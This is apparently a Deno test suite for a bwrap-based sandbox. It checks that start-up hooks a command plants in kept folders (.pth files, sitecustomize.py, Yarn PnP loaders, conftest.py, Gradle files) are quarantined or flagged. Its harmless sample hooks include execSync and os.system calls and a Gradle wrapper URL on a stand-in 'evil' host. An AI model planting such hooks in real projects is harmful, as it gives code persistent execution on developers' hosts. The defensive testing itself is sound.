/**
 * Code that runs later, outside the sandbox — the sixth attacker pass (issue 16 class 3;
 * docs/permissions.md "Host-run files in kept folders"), on real bwrap, the sandbox called
 * directly (no guard):
 *
 * - inside folders the dot-entry rule keeps (`.venv`, non-dot venvs, `.yarn`, `.terraform`): a
 *   `.pth` with an `import` line the command created or changed is quarantined, `sitecustomize.py`
 *   is removed, the files loaders run (venv `bin/`, `pyvenv.cfg`, Yarn's releases/plugins/sdks and
 *   PnP loaders, terraform providers and lock file) are kept and flagged; an honest venv made in
 *   the sandbox keeps working;
 * - a new file whose name is not valid UTF-8 is quarantined (no check could name it);
 * - `CACHEDIR.TAG` in a folder git tracks is not honoured with an index v4 or in a linked worktree.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { detectBackend } from "../core/policy/sandbox/mod.ts";
import { commandWorld, exists, GIT_ID, sh } from "./support/sandbox_world.ts";

const PY = "/usr/bin/python3";
const SP = "$(echo lib/python3*/site-packages)";
/** The site dir of the workspace's `.venv`, from the workspace. */
const VSP = "$(echo .venv/lib/python3*/site-packages)";

async function world(setup = "true") {
  const { backend } = await detectBackend();
  assert.ok(backend, "bwrap must be installed for these tests");
  return await commandWorld("coyote-later6-", `git init -q . && ${setup}`);
}

Deno.test("runs later 6: Python start-up hooks planted in a kept venv do not survive; loaders' files are flagged", async () => {
  const w = await world(
    [
      `${PY} -m venv --without-pip .venv && ${PY} -m venv --without-pip env`,
      `(cd .venv && echo 'import sys' > ${SP}/old.pth)`,
    ].join(" && "),
  );
  try {
    const hook = `import pathlib; pathlib.Path("${w.ws}/PWNED").touch()`;
    const out = await w.run(
      [
        `(cd .venv && printf '%s\\n' '${hook}' > ${SP}/evil.pth && printf '%s\\n' '${hook}' > ${SP}/old.pth`,
        `echo "$PWD/lib" > ${SP}/paths.pth && echo '${hook}' > ${SP}/sitecustomize.py`,
        `echo 'touch PWNED' >> bin/activate && echo 'include-system-site-packages = true' >> pyvenv.cfg`,
        `printf '#!/bin/sh\\ntouch PWNED\\n' > bin/git && chmod +x bin/git)`,
        // A byte-order mark first (Python 3.13 reads .pth files as utf-8-sig).
        `(cd env && printf '\\357\\273\\277%s\\n' '${hook}' > ${SP}/evil2.pth)`,
        `echo done`,
      ].join(" && "),
    );
    assert.match(out, /done/, out);
    const site = (await sh(`echo lib/python3*/site-packages`, join(w.ws, ".venv"))).trim();
    for (const p of [`.venv/${site}/evil.pth`, `.venv/${site}/old.pth`, `env/${site}/evil2.pth`]) {
      assert.equal(await exists(join(w.ws, p)), false, `${p}: ${out}`);
    }
    assert.match(out, /moved 3 Python start-up hooks .* to quarantine/, out);
    assert.match(out, new RegExp(`env/lib/python3[^ ]*/evil2\\.pth → ${w.data}/quarantine/`), out);
    assert.equal(await exists(join(w.ws, `.venv/${site}/sitecustomize.py`)), false, out);
    assert.match(out, /sitecustomize\.py \(protected as sitecustomize\.py/, out);
    // Kept, and named for review: what honest installs also write.
    const flagged = /files a tool runs later that the command created or changed[^\n]*/.exec(out);
    assert.ok(flagged, out);
    for (const p of [".venv/bin/activate", ".venv/bin/git", ".venv/pyvenv.cfg", "paths.pth"]) {
      assert.ok(flagged[0].includes(p), `${p} flagged: ${out}`);
    }
    assert.equal(await exists(join(w.ws, ".venv/bin/git")), true);
    // The host's next Python start in either venv runs nothing planted.
    await sh(`.venv/bin/python -c pass && env/bin/python -c pass`, w.ws);
    assert.equal(await exists(join(w.ws, "PWNED")), false, out);
  } finally {
    await w.cleanup();
  }
});

Deno.test("runs later 6: a venv made in the sandbox keeps working; its import shim is quarantined, path .pth files kept", async () => {
  const w = await world();
  try {
    const out = await w.run(`${PY} -m venv .venv && echo made`);
    assert.match(out, /made/, out);
    assert.match(
      out,
      /moved 1 Python start-up hook[^\n]*\n\s+\.venv\/[^ ]*distutils-precedence\.pth/,
      out,
    );
    assert.match(out, /files a tool runs later [^\n]*\.venv\/bin\/activate/, out);
    const out2 = await w.run(
      `mkdir src && echo 'X = 41' > src/mymod.py && echo "$PWD/src" > ${VSP}/mine.pth && .venv/bin/python -m pip --version && .venv/bin/python -c 'import setuptools, mymod; print(mymod.X + 1)'`,
    );
    assert.match(out2, /^pip \d+/m, out2);
    assert.match(out2, /^42$/m, out2);
    assert.match(out2, /files a tool runs later [^\n]*mine\.pth/, out2);
    assert.doesNotMatch(out2, /quarantine/, out2);
  } finally {
    await w.cleanup();
  }
});

Deno.test("runs later 6: Yarn's and terraform's executed files in kept folders are flagged, their data is not", async () => {
  const w = await world(
    [
      `mkdir -p .yarn/releases .yarn/cache .terraform/providers && echo 'x' > .yarn/releases/yarn-4.cjs`,
      `echo 'module.exports={}' > .pnp.cjs && echo 'provider' > .terraform.lock.hcl`,
    ].join(" && "),
  );
  try {
    const prov = ".terraform/providers/registry.terraform.io/evil/x/1.0.0/linux_amd64";
    const out = await w.run(
      [
        `echo 'require("child_process").execSync("touch PWNED")' >> .pnp.cjs`,
        `echo 'x' > .pnp.loader.mjs && echo 'y' >> .yarn/releases/yarn-4.cjs`,
        `mkdir -p .yarn/plugins .yarn/sdks/typescript/lib && echo p > .yarn/plugins/p.cjs && echo t > .yarn/sdks/typescript/lib/tsserver.js`,
        `echo zip > .yarn/cache/left-pad.zip`,
        `mkdir -p ${prov} && printf '#!/bin/sh\\n' > ${prov}/terraform-provider-x && chmod +x ${prov}/terraform-provider-x`,
        `echo changed >> .terraform.lock.hcl && echo done`,
      ].join(" && "),
    );
    assert.match(out, /done/, out);
    const flagged = /files a tool runs later that the command created or changed[^\n]*/.exec(out);
    assert.ok(flagged, out);
    for (
      const p of [
        ".pnp.cjs",
        ".pnp.loader.mjs",
        ".yarn/releases/yarn-4.cjs",
        ".yarn/plugins/p.cjs",
        ".yarn/sdks/typescript/lib/tsserver.js",
        `${prov}/terraform-provider-x`,
        ".terraform.lock.hcl",
      ]
    ) {
      assert.ok(flagged[0].includes(p), `${p} flagged: ${out}`);
      assert.equal(await exists(join(w.ws, p)), true, p);
    }
    assert.ok(!flagged[0].includes("left-pad.zip"), out);
  } finally {
    await w.cleanup();
  }
});

Deno.test("runs later 6: build files editors run when the folder opens are flagged when made or changed, not when untouched", async () => {
  const w = await world(
    `mkdir -p app && echo 'old' > app/CMakeLists.txt && echo 'plugins {}' > build.gradle.kts`,
  );
  try {
    const out = await w.run(
      [
        `printf 'fn main(){}' > build.rs`,
        `printf '[package]\\nname="x"\\nversion="0.1.0"\\nbuild="build.rs"\\n' > Cargo.toml`,
        `echo 'import os; os.system("touch PWNED")' > conftest.py`,
        `mkdir -p gradle/wrapper && echo 'distributionUrl=https://evil/x.zip' > gradle/wrapper/gradle-wrapper.properties`,
        `echo 'exec { commandLine("sh") }' >> build.gradle.kts`,
        `echo done`,
      ].join(" && "),
    );
    assert.match(out, /done/, out);
    const flagged = /files a tool runs later that the command created or changed[^\n]*/.exec(out);
    assert.ok(flagged, out);
    // The Gradle wrapper's properties are a protected name already: removed, not only flagged.
    assert.equal(await exists(join(w.ws, "gradle/wrapper/gradle-wrapper.properties")), false, out);
    for (const p of ["build.rs", "conftest.py", "build.gradle.kts"]) {
      assert.ok(flagged[0].includes(p), `${p} flagged: ${out}`);
      assert.equal(await exists(join(w.ws, p)), true, `${p} kept`);
    }
    assert.ok(!flagged[0].includes("CMakeLists.txt"), `an untouched one is not flagged: ${out}`);
  } finally {
    await w.cleanup();
  }
});

Deno.test("runs later 6: a new file whose name is not valid UTF-8 is quarantined, an old one left alone", async () => {
  const w = await world(
    `${PY} -m venv --without-pip .venv && mkdir -p .github/workflows && echo x > $'old\\xfa'`,
  );
  try {
    const out = await w.run(
      [
        `printf 'import os\\n' > ${VSP}/$'\\xff.pth'`,
        `echo 'on: push' > .github/workflows/$'\\xfe.yml'`,
        `echo x > $'.x\\xfd' && echo x > $'plain\\xfc' && echo done`,
      ].join(" && "),
    );
    assert.match(out, /done/, out);
    assert.match(out, /moved 4 new files whose name is not valid UTF-8 to quarantine/, out);
    const left = await sh(
      `find . -path ./.git -prune -o -print | LC_ALL=C grep -c $'[\\x80-\\xff]'`,
      w.ws,
    );
    assert.equal(left.trim(), "1", `only old\\xfa is left: ${out}`);
    assert.doesNotMatch(out, /old\uFFFD/, out);
    const q = (await sh(`find ${w.data}/quarantine -type f | wc -l`)).trim();
    assert.equal(q, "4", "nothing lost");
  } finally {
    await w.cleanup();
  }
});

Deno.test("runs later 6: CACHEDIR.TAG in a tracked folder is not honoured with an index v4", async () => {
  const w = await world(
    [
      `echo t > track.txt && mkdir tracked && touch tracked/CACHEDIR.TAG tracked/a`,
      `git add . && git update-index --index-version 4 && git ${GIT_ID} commit -q -m t`,
    ].join(" && "),
  );
  try {
    const head = await Deno.readFile(join(w.ws, ".git/index"));
    assert.equal(head[7], 4, "the index is version 4 (path-prefix compressed)");
    const out = await w.run(`mkdir tracked/.hooks && echo x > tracked/.hooks/x && echo done`);
    assert.match(out, /done/, out);
    assert.equal(await exists(join(w.ws, "tracked/.hooks")), false, out);
  } finally {
    await w.cleanup();
  }
});

Deno.test("runs later 6: CACHEDIR.TAG in a tracked folder is not honoured in a linked worktree", async () => {
  const w = await world(`rm -rf .git`);
  try {
    await sh(
      [
        `git init -q main && cd main && mkdir tracked && touch tracked/CACHEDIR.TAG tracked/a`,
        `git add . && git ${GIT_ID} commit -q -m t && git worktree add -q --force ../ws`,
      ].join(" && "),
      w.root,
    );
    assert.equal(await exists(join(w.ws, "tracked/CACHEDIR.TAG")), true);
    const out = await w.run(`mkdir tracked/.hooks && echo x > tracked/.hooks/x && echo done`);
    assert.match(out, /done/, out);
    assert.equal(await exists(join(w.ws, "tracked/.hooks")), false, out);
    // An untracked tagged folder in the same worktree is still honoured.
    await sh(`mkdir target && touch target/CACHEDIR.TAG`, w.ws);
    const out2 = await w.run(`mkdir target/.fp && echo x > target/.fp/f && echo done`);
    assert.equal(await exists(join(w.ws, "target/.fp/f")), true, out2);
  } finally {
    await w.cleanup();
  }
});
